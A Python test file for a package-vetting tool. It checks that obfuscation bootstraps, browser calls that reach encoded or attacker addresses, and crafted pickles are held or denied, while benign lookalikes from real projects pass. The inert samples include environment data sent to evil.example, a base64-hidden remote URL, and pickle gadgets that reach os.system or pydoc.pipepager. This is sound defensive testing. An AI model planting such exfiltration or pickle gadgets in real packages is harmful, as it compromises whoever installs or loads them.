"""Shapes of popular projects in the fourth corpus's calibration half (ADR 0134) that held,
each beside the malicious shape next to it (ADR 0135).

Every sample is inert and made here (vetting only reads files): a tracer that names
PyArmor's markers to skip obfuscated functions, beside PyArmor's real bootstrap; a module
Haxe generated, whose every import is ``__import__('name')``, showing a page in a browser,
beside a browser opened on an address written, decoded or opened on import."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.packedcode import is_pyarmor_code
from airlock.imports.packages.pickleown import native_modules
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

# ddtrace's ``internal/utils/obfuscation.py``, abridged: it names PyArmor's markers in a
# docstring, a comment and a set of strings, and never imports or calls the runtime.
TRACER = (
    '"""Best-effort detection of code objects protected by an obfuscator (e.g. PyArmor).\n\n'
    "This module only recognizes the case where the PyArmor runtime has injected its\n"
    '``__armor_enter__``/``__armor_exit__`` call wrapper around the function body.\n"""\n'
    "import sys\n"
    "# Legacy PyArmor calls ``__armor_enter__``; modern PyArmor uses pyarmor_runtime(...)\n"
    '_ARMOR_MARKERS = frozenset(("__armor_enter__", "__armor_exit__"))\n'
    '_RUNTIME_MODULE_PREFIXES = ("pytransform", "pyarmor_runtime")\n\n'
    "def is_obfuscated(code):\n"
    "    if _ARMOR_MARKERS.intersection(code.co_names):\n"
    "        return True\n"
    "    return any(m.startswith(_RUNTIME_MODULE_PREFIXES) for m in sys.modules)\n"
)
BLOB = "b'PY000000\\x00\\x03\\x0b\\x00\\x6f\\x0d\\x0d\\x0a'"
PYARMOR8 = (
    f"from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, {BLOB})\n"
)
PYARMOR7 = (
    "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
    f"__pyarmor__(__name__, __file__, {BLOB})\n"
)

HELD: Mapping[str, Mapping[str, str]] = {
    "pyarmor-8-bootstrap": init(PYARMOR8),
    "pyarmor-7-bootstrap": init(PYARMOR7),
    "pyarmor-loader-called-without-its-import": init(f"__pyarmor__(__name__, __file__, {BLOB})\n"),
    "pyarmor-runtime-imported-alone": init("import pytransform\n"),
    "pyarmor-bootstrap-beside-a-docstring": init(f'"""Names __armor_enter__."""\n{PYARMOR8}'),
    "pyarmor-in-a-module-that-does-not-parse": init(f"{PYARMOR8}def broken(:\n"),
}
ALLOWED: Mapping[str, Mapping[str, str]] = {
    "tracer-naming-pyarmor-markers": {"evpkg/obfuscation.py": TRACER, **init("")},
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases({}, HELD, ALLOWED))
def test_pyarmor_output_holds_and_a_mention_of_it_does_not(
    files: Mapping[str, str], expected: Outcome
) -> None:
    assert vet_package(files) is expected


def test_only_code_counts_as_pyarmor() -> None:
    assert not is_pyarmor_code(TRACER)
    assert is_pyarmor_code(PYARMOR8)
    assert is_pyarmor_code(PYARMOR7)


# daff 1.4.2 (Haxe's Python target), abridged: a diff written to a temporary file and shown.
SHOWN = (
    "class TableIO:\n"
    "    def sendToBrowser(self, html):\n"
    "        f = __import__('tempfile').NamedTemporaryFile('wb', delete=False, suffix='.html')\n"
    "        f.write(html.encode('utf-8', 'strict'))\n"
    "        f.close()\n"
    "        __import__('webbrowser').open({url})\n"
)
# (a host an attacker can register: a reserved example name is no endpoint, ADR 0141)
DECODED_URL = "__import__('base64').b64decode('aHR0cHM6Ly9ldmlsLWNkbi5ydS94').decode()"
ON_IMPORT = "import tempfile\nf = tempfile.NamedTemporaryFile('wb', delete=False)\n"

BROWSER_DENIED: Mapping[str, Mapping[str, str]] = {
    "decoded-address-opened-when-called": init(SHOWN.format(url=DECODED_URL)),
    "environment-sent-through-the-browser": init(
        SHOWN.format(url="'https://evil.example/?' + __import__('os').environ['HOME']")
    ),
    "decoded-address-opened-on-import": init(f"__import__('webbrowser').open({DECODED_URL})\n"),
    "page-opened-on-import": init(
        f"{ON_IMPORT}__import__('webbrowser').open('file://' + f.name)\n"
    ),
}
BROWSER_HELD: Mapping[str, Mapping[str, str]] = {
    "written-address-opened-when-called": init(SHOWN.format(url="'https://evil.example/x'")),
    "decoded-file-url-opened-when-called": init(
        SHOWN.format(url="'file://' + __import__('base64').b64decode('L3RtcC94').decode()")
    ),
}
BROWSER_ALLOWED: Mapping[str, Mapping[str, str]] = {
    "haxe-module-shows-a-temporary-page": init(SHOWN.format(url="'file://' + f.name")),
    "haxe-module-opens-the-callers-url": init(SHOWN.format(url="html")),
}


@pytest.mark.parametrize(
    ("files", "expected"), verdict_cases(BROWSER_DENIED, BROWSER_HELD, BROWSER_ALLOWED)
)
def test_a_browser_reached_by_a_written_import_name_is_no_hidden_endpoint(
    files: Mapping[str, str], expected: Outcome
) -> None:
    assert vet_package(files) is expected


# bitarray 3.12.3, abridged: a C extension type and its Python subclass, pickled through the
# extension's own reconstructor (``__reduce__``), in a test pickle nothing loads on import.
NATIVE_INIT = (
    "from evpkg._native import thing, _thing_reconstructor\n\nclass frozenthing(thing):\n    pass\n"
)
HELPERS = "import subprocess\n\ndef run_cmd(cmd):\n    return subprocess.run(cmd)\n"
HELPERS += "\ndef _reconstruct(cmd):\n    return run_cmd(cmd)\n"
SO = "evpkg/_native.cpython-311-x86_64-linux-gnu.so"


def _global(dotted: str) -> bytes:
    module, _, name = dotted.rpartition(".")
    return f"c{module}\n{name}\n".encode()


def _text(text: str) -> bytes:
    raw = text.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def _pickle(*calls: tuple[str, str]) -> bytes:
    """A protocol 2 list of ``callee(handed, b'\\x07', 'little', 1)`` by ``REDUCE``."""
    body = b"".join(
        _global(callee) + b"(" + _global(handed) + b"C\x01\x07" + _text("little") + b"K\x01tR"
        for callee, handed in calls
    )
    return b"\x80\x02]q\x00(" + body + b"e."


def _archive(*calls: tuple[str, str], native: str = SO, extra: str = "") -> dict[str, bytes]:
    files = {
        "evpkg/__init__.py": NATIVE_INIT.encode(),
        "evpkg/_helpers.py": HELPERS.encode(),
        native: b"\x7fELF\x02\x01\x01" if native.endswith(".so") else b"/* C */\n",
        "evpkg/test_281.pickle": _pickle(*calls),
    }
    if extra:
        files["evpkg/_native.py"] = extra.encode()
    return files


OWN = "evpkg._native._thing_reconstructor"
PICKLES_HELD: dict[str, dict[str, bytes]] = {
    "own-native-function-not-a-reconstructor": _archive(("evpkg._native.run", "evpkg.thing")),
    "reconstructor-named-python-function": _archive(("evpkg._helpers._reconstruct", "evpkg.thing")),
    "own-python-function-handed-to-the-reconstructor": _archive((OWN, "evpkg._helpers.run_cmd")),
    "gadget-handed-to-the-reconstructor": _archive((OWN, "pydoc.pipepager")),
    "reconstructor-of-a-module-shipped-as-python-too": _archive(
        (OWN, "evpkg.thing"), extra="def _thing_reconstructor(f, *a):\n    return f(*a)\n"
    ),
}
PICKLES_HELD["own-type-rebound-after-its-subclass"] = {
    **_archive((OWN, "evpkg.thing")),
    "evpkg/__init__.py": (NATIVE_INIT + "import os\nthing = os.system\n").encode(),
}
PICKLES_HELD["own-reconstructor-replaced-by-another-module"] = {
    **_archive((OWN, "evpkg.thing")),
    "evpkg/_patch.py": (
        b"import os\nfrom evpkg import _native\n_native._thing_reconstructor = os.system\n"
    ),
}
PICKLES_HELD["own-type-replaced-by-setattr"] = {
    **_archive((OWN, "evpkg.frozenthing")),
    "evpkg/_patch.py": b"import os\nimport evpkg\nsetattr(evpkg, 'frozenthing', os.system)\n",
}
PICKLES_ALLOWED: dict[str, dict[str, bytes]] = {
    "extension-types-through-their-reconstructor": _archive(
        (OWN, "evpkg.frozenthing"), (OWN, "evpkg.thing")
    ),
    "re-exported-reconstructor-in-an-sdist": _archive(
        ("evpkg._thing_reconstructor", "evpkg.frozenthing"), native="evpkg/_native.c"
    ),
}


def _vet_archive(files: dict[str, bytes]) -> Outcome:
    if "evpkg/_native.c" in files:
        setup = b"from setuptools import setup, Extension\nsetup(name='evpkg')\n"
        tree = {"setup.py": setup, **files}
        return vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", tree)).verdict
    return vet("evpkg-1.0-cp311-cp311-linux_x86_64.whl", wheel("evpkg", "1.0", dict(files))).verdict


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        *(pytest.param(f, Outcome.HOLD, id=f"hold-{k}") for k, f in PICKLES_HELD.items()),
        *(pytest.param(f, Outcome.ALLOW, id=f"allow-{k}") for k, f in PICKLES_ALLOWED.items()),
    ],
)
def test_an_extension_types_own_reconstructor_is_a_data_constructor(
    files: dict[str, bytes], expected: Outcome
) -> None:
    assert _vet_archive(files) is expected


def test_native_modules_are_compiled_or_c_and_not_python() -> None:
    paths = [SO, "evpkg/_util.c", "evpkg/_both.pyx", "evpkg/_both.py", "evpkg/_pkg.c"]
    assert native_modules([*paths, "evpkg/_pkg/__init__.py"], sdist=False) == {
        "evpkg._native",
        "evpkg._util",
    }
    assert native_modules(["evpkg-1.0/src/evpkg/_native.c"], sdist=True) == {"evpkg._native"}
